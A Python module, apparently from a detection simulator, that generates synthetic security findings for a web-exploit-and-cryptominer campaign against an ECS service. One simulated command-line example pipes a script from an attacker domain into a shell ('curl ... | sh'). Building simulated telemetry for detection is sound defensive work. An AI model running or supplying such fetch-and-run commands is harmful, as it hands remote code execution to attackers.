"""A web application is exploited and a miner runs; the task dies, and the next one is hit too.

What links the tasks is the attacker's own build of the miner and sometimes a domain; the pool is public.
"""

from __future__ import annotations

from tracehound.simulator.builders.runtime import (
    always,
    connection,
    dns_lookup,
    malicious_file,
    new_binary,
    runtime,
)
from tracehound.simulator.chains import child, download, from_memory, web_shell
from tracehound.simulator.finding import Reported
from tracehound.simulator.organization import EcsService
from tracehound.simulator.processes import Process
from tracehound.simulator.scene import HOUR, Scene
from tracehound.simulator.stories.attackers import PUBLIC_POOLS, Attacker, conclude, new_attacker
from tracehound.simulator.workplaces import Workplace, start_task

_PAUSE = 400.0


def play(scene: Scene) -> None:
    """One campaign: 2 to 4 tasks of one service, 3 to 5 findings in each."""
    rng = scene.rng
    service, attacker = scene.service(lambda service: service.app.is_web), new_attacker(scene, addresses=2)
    pool = rng.choice((*PUBLIC_POOLS, attacker.domain))
    at, findings = scene.start, []
    for _ in range(rng.randint(2, 4)):
        place = start_task(rng, service, at, at + rng.uniform(1, 4) * HOUR)
        findings += infect(scene, place, attacker, pool, scene.soon(at, _PAUSE, 2 * _PAUSE))
        at = place.until + rng.uniform(20, 90)
    if rng.random() < 0.4:
        _conclude(scene, service, findings)


def _conclude(scene: Scene, service: EcsService, findings: list[Reported]) -> None:
    subject = f"cluster {service.cluster['name']}"
    conclude(scene, service.detector, "AttackSequence:ECS/CompromisedCluster", subject, findings)


def infect(scene: Scene, place: Workplace, attacker: Attacker, pool: str, at: float) -> list[Reported]:
    """Break into the task's web application and mine: 3 to 5 findings."""
    rng, tree = scene.rng, place.tree
    shell = web_shell(rng, tree, at)
    writer = download(rng, tree, shell, scene.soon(at, 1, 20))
    written_at = scene.soon(writer.start, 1, 9)
    miner = child(
        rng,
        tree,
        shell,
        attacker.tool_path,
        scene.soon(written_at, 1, 20),
        pwd="/tmp",
        sha256=attacker.tool_sha256,
    )
    findings = [_shell_finding(scene, place, shell, attacker)]
    if rng.random() < 0.8:
        draft = new_binary(rng, place, always(miner), writer, written_at)
        findings.append(scene.report(draft, "new_binary", miner.start + 1))
    findings += _mine(scene, place, attacker, pool, miner)
    return findings


def _shell_finding(scene: Scene, place: Workplace, shell: Process, attacker: Attacker) -> Reported:
    if scene.rng.random() < 0.5:
        type_, context = (
            "Execution:Runtime/SuspiciousShellCreated",
            {"serviceName": place.tree.worker.ancestor["name"]},
        )
    else:
        type_, context = (
            "Execution:Runtime/SuspiciousCommand",
            {"commandLineExample": f"sh -c curl -fsSL https://{attacker.domain}/i | sh"},
        )
    draft = runtime(scene.rng, place, type_, always(shell), context=context)
    return scene.report(draft, "web_shell", shell.start + 0.5)


def _mine(scene: Scene, place: Workplace, attacker: Attacker, pool: str, miner: Process) -> list[Reported]:
    rng = scene.rng
    drafts = [
        dns_lookup(
            rng,
            place,
            "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
            always(miner),
            pool,
            threat="MiningPool",
        ),
        runtime(rng, place, "Impact:Runtime/CryptoMinerExecuted", always(miner)),
        runtime(
            rng,
            place,
            "DefenseEvasion:Runtime/FilelessExecution",
            always(from_memory(place.tree, miner)),
        ),
        connection(
            rng,
            place,
            "CryptoCurrency:Runtime/BitcoinTool.B",
            always(miner),
            remote=attacker.remote(rng),
            port=3333,
        ),
        malicious_file(
            rng,
            place,
            always(miner),
            attacker.tool_path,
            threat="Trojan.Linux.CoinMiner",
            sha256=attacker.tool_sha256,
        ),
    ]
    at, findings = miner.start, []
    for draft in rng.sample(drafts, rng.randint(2, 3)):
        at = scene.soon(at, 5, 120)
        findings.append(scene.report(draft, "mining", at))
    return findings
